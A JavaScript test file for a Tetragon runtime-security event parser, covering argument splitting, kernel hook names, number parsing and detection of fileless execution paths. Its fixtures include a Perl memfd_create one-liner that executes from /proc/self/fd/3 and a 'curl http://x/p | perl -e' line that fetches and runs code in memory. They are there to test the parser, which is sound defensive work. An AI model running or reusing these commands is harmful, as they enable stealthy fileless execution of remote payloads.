import assert from 'node:assert/strict';
import { test } from 'node:test';
import { isFileless as looksFileless } from '../runtime/files.js';
import { basename, canonicalFunction, numOrNull, splitArguments } from './values.js';

test('arguments: split on spaces, a double-quoted run is one argument', () => {
  assert.deepEqual(splitArguments('-s -o /dev/null http://example.org'), ['-s', '-o', '/dev/null', 'http://example.org']);
  assert.deepEqual(splitArguments('-c "apt update && apt install -y curl"'), ['-c', 'apt update && apt install -y curl']);
  // Tetragon puts a space before a quoted first argument.
  assert.deepEqual(splitArguments(' "a b" c'), ['a b', 'c']);
  assert.deepEqual(splitArguments('-c "cat /tmp/healthy"'), ['-c', 'cat /tmp/healthy']);
  // Single quotes are the program's own characters: Tetragon never adds them.
  assert.deepEqual(splitArguments(`-e "print 'x y'"`), ['-e', "print 'x y'"]);
  assert.deepEqual(splitArguments("it's"), ["it's"]);
  assert.deepEqual(splitArguments('a   b\tc'), ['a', 'b', 'c']);
  assert.deepEqual(splitArguments('""'), ['']);
  assert.deepEqual(splitArguments('x "unterminated quote'), ['x', 'unterminated quote']);
  assert.deepEqual(splitArguments(''), []);
  // Quotes inside a quoted argument are not escaped by Tetragon: they stay in the argument.
  const perl = `open(my $f,">&=",syscall(319,"payload",0)) or die;exec {"/proc/self/fd/3"} "payload"`;
  assert.deepEqual(splitArguments(`-e "${perl}"`), ['-e', perl]);
  assert.deepEqual(splitArguments(`-c "curl -s http://x/p | perl -e '${perl}'"`), ['-c', `curl -s http://x/p | perl -e '${perl}'`]);
  assert.deepEqual(splitArguments('a"b c'), ['a"b', 'c']);
  assert.equal(splitArguments('a '.repeat(1000)).length, 256);
});

test('hook names: attach prefixes removed, one name per hook', () => {
  assert.equal(canonicalFunction('__x64_sys_renameat2'), 'renameat2');
  assert.equal(canonicalFunction('sys_renameat2'), 'renameat2');
  assert.equal(canonicalFunction('__arm64_sys_ptrace'), 'ptrace');
  assert.equal(canonicalFunction('__sys_setresuid'), 'setresuid');
  assert.equal(canonicalFunction('security_file_permission'), 'file_permission');
  assert.equal(canonicalFunction('bpf_lsm_file_open'), 'file_open');
  assert.equal(canonicalFunction('file_open'), 'file_open');
  assert.equal(canonicalFunction('tcp_connect'), 'tcp_connect');
  assert.equal(canonicalFunction('do_init_module'), 'do_init_module');
  assert.equal(canonicalFunction('security_kernel_module_request'), 'kernel_module_request');
});

test('numbers: protojson 64-bit strings and plain numbers; basename; fileless paths', () => {
  assert.equal(numOrNull('45021'), 45021);
  assert.equal(numOrNull('-100'), -100);
  assert.equal(numOrNull(7), 7);
  assert.equal(numOrNull('0x10'), null);
  assert.equal(numOrNull(null), null);
  assert.equal(numOrNull(Number.NaN), null);
  assert.equal(basename('/usr/bin/curl'), 'curl');
  assert.equal(basename('/proc/self/fd/3'), '3');
  assert.equal(basename('curl'), 'curl');
  assert.equal(basename(''), '');
  for (const p of ['/memfd:payload (deleted)', '/proc/self/fd/3', '/proc/4242/fd/12', '/tmp/x (deleted)', '/dev/shm/x', 'memfd:x']) assert.ok(looksFileless(p), p);
  for (const p of ['/usr/bin/curl', '/dev/fd/3', '/proc/self/exe', '/tmp/x']) assert.ok(!looksFileless(p), p);
});
